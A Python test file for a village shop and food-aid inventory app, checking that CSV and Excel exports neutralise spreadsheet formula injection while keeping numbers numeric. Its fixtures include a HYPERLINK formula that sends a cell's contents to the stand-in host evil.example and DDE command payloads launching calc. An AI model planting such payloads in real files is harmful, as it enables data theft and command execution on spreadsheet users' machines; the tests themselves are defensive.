"""Cells bound for a spreadsheet: text a spreadsheet would run as a formula is neutralised,
numbers stay numbers; the catalogue and unserved-KPM exports use the rule."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from ewarung.exports import csv_writer, keep_as_text, safe_cell
from inventory import csvio
from inventory.models import Product
from tests.factories import (
    PASSWORD,
    card_key,
    make_beneficiary,
    make_card_number,
    make_product,
    make_user,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


@pytest.mark.parametrize(("value", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("Beras Medium", "Beras Medium"),
    ("Ibu = Siti", "Ibu = Siti"),
    ("'0012", "'0012"),
    ("", ""),
    (None, None),
    (-15000, -15000),
    (Decimal("-2.500"), Decimal("-2.500")),
    (-0.5, -0.5),
    ("-15000", "-15000"),  # a number written as text is still just a number
    ("-2,5", "-2,5"),
    ("+6281234567890", "+6281234567890"),
    ("-1.234.567,89", "-1.234.567,89"),
    ("-1e3", "'-1e3"),
])
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(value, written):
    assert safe_cell(value) == written


def test_the_csv_writer_neutralises_text_and_keeps_numbers():
    out = io.StringIO()
    writer = csv_writer(out, delimiter=";", lineterminator="\n")
    writer.writerow(["nama", "jumlah"])
    writer.writerows([[HYPERLINK, -12500], ["@Siti", Decimal("1.5")]])
    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert rows == [["nama", "jumlah"], ["'" + HYPERLINK, "-12500"], ["'@Siti", "1.5"]]


def test_no_cell_of_an_exported_workbook_is_a_formula():
    book = Workbook()
    book.active.append([HYPERLINK, -5000, "@x"])
    keep_as_text(book)
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [(c.value, c.data_type) for c in cells] == [
        (HYPERLINK, "s"), (-5000, "n"), ("@x", "s")]


def test_a_product_named_like_a_formula_is_exported_neutralised_and_reimports(client, db):
    with db.unit_of_work() as s:
        make_product(s, HYPERLINK, sku="JAHAT", price=5000)
        make_user(s, "manager", "ketua")
    client.login("ketua", password=PASSWORD)
    resp = client.get("/inventory/products/export")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.get_data().decode("utf-8-sig")), delimiter=";"))
    assert rows[1][:4] == ["JAHAT", "'" + HYPERLINK, "pcs", "5000"]
    with db.unit_of_work() as s:
        result = csvio.import_products(s, resp.get_data())
        assert (result.updated, result.rejected) == (1, [])
    with db.unit_of_work(write=False) as s:
        assert s.scalar(select(Product.name).where(Product.sku == "JAHAT")) == HYPERLINK


def test_a_kpm_named_like_a_formula_comes_out_neutralised_in_the_unserved_csv(app, client, db):
    quoted = '"' + HYPERLINK.replace('"', '""') + '"'
    kpm_file = ("nik;nama;no_kks;desa;alamat\n"
                f"3201010101900001;{quoted};{make_card_number()};@Sukamaju;-RT 01\n").encode()
    with db.unit_of_work() as s:
        make_user(s, "manager", "ketua")
    client.login("ketua", password=PASSWORD)
    imported = client.post("/api/v1/beneficiaries/import",
                           data={"file": (io.BytesIO(kpm_file), "kpm.csv")})
    assert imported.status_code == 200, imported.get_json()
    assert imported.get_json()["imported"] == 1, imported.get_json()
    with db.unit_of_work() as s:
        make_beneficiary(s, card_key(app), name="+Budi", village="Sukamaju")
    resp = client.get("/bpnt/unserved.csv")
    rows = list(csv.reader(io.StringIO(resp.get_data().decode("utf-8-sig")), delimiter=";"))
    by_name = {row[1]: row for row in rows[1:]}
    assert set(by_name) == {"'" + HYPERLINK, "'+Budi"}
    jahat = by_name["'" + HYPERLINK]
    assert (jahat[2], jahat[3]) == ("'@Sukamaju", "'-RT 01")
    assert jahat[5] == "0"  # the remaining entitlement stays a number
